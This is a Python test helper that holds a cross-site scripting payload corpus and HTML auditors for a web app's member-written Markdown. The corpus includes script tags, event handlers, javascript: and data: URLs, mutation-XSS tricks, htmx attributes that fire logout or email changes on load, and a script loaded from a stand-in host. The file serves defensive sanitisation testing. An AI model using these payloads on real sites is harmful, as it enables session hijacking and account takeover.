"""An XSS corpus for everything members write (Markdown bodies, titles, comments, previews),
and the audit of rendered Markdown. Tests get both from tests/conftest.py's fixtures."""

import re
from html.parser import HTMLParser

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '[x](https://example.com" onclick="alert(1))',
    "[x](https://example.com 'title\" onmouseover=\"alert(1)')",
    '<a href="https://example.com" onmouseover="alert(1)">hover</a>',
    '<p hx-get="/accounts/logout/" hx-trigger="load">x</p>',
    '<div hx-post="/accounts/email/" hx-trigger="load" hx-vals=\'{"email":"a@b.c"}\'>x</div>',
    '<button hx-on:click="alert(1)">x</button>',
    '<div hx-on::load="alert(1)">x</div>',
    '<span data-hx-get="/" data-hx-trigger="load">x</span>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<table background="javascript:alert(1)">',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "`<img src=x onerror=alert(1)>`",
    "```\n</code><script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "<x onclick=alert(1)>click me</x>",
    "<template><script>alert(1)</script></template>",
    "{{ 7*7 }}<script>alert(1)</script>",
    "{% csrf_token %}<svg/onload=alert(1)>",
]

SAFE_TAGS = {
    "p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a",
    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "rel", "start", "align"}
SAFE_SCHEMES = {"http", "https", "mailto"}


class _Audit(HTMLParser):
    """Collects every real tag and attribute in rendered HTML (escaped text is just text)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.problems.append(f"attribute {name}={value!r} on <{tag}>")
            scheme = re.match(r"^\s*([a-z][a-z0-9+.-]*):", value or "", re.I)
            if name == "href" and scheme and scheme.group(1).lower() not in SAFE_SCHEMES:
                self.problems.append(f"href {value!r}")


def unsafe_parts(html: str) -> list[str]:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.problems


# The whole-page audit ------------------------------------------------------------------

EMBEDS = {"iframe", "object", "embed", "svg", "math", "base", "style", "template", "frame"}
SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "background"}


class PageAudit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in EMBEDS:
            self.problems.append(f"<{tag}>")
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            self.problems.append("inline <script>")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append("<meta http-equiv>")
        if tag == "link" and not (attributes.get("href") or "").startswith("/static/"):
            self.problems.append(f"<link href={attributes.get('href')!r}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name.startswith(("hx-on", "data-hx")):
                self.problems.append(f"{name}= on <{tag}>")
            if name in ("style", "srcdoc"):
                self.problems.append(f"{name}= on <{tag}>")
            if name == "hx-trigger" and "load" in value:
                self.problems.append("hx-trigger=load")
            # The site's own: group pages' and conversations' fragments, the unread badge poll.
            own = ("/gruppi/", "/rete/messaggi/", "?", "/notifiche/contatore/")
            if name in ("hx-get", "hx-post") and not value.startswith(own):
                self.problems.append(f"{name}={value!r}")
            if name in URL_ATTRIBUTES:
                scheme = re.match(r"^\s*([a-z][a-z0-9+.-]*):", value, re.I)
                if scheme and scheme.group(1).lower() not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r}")


def audit(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    checker = PageAudit()
    checker.feed(response.content.decode())
    checker.close()
    return checker.problems
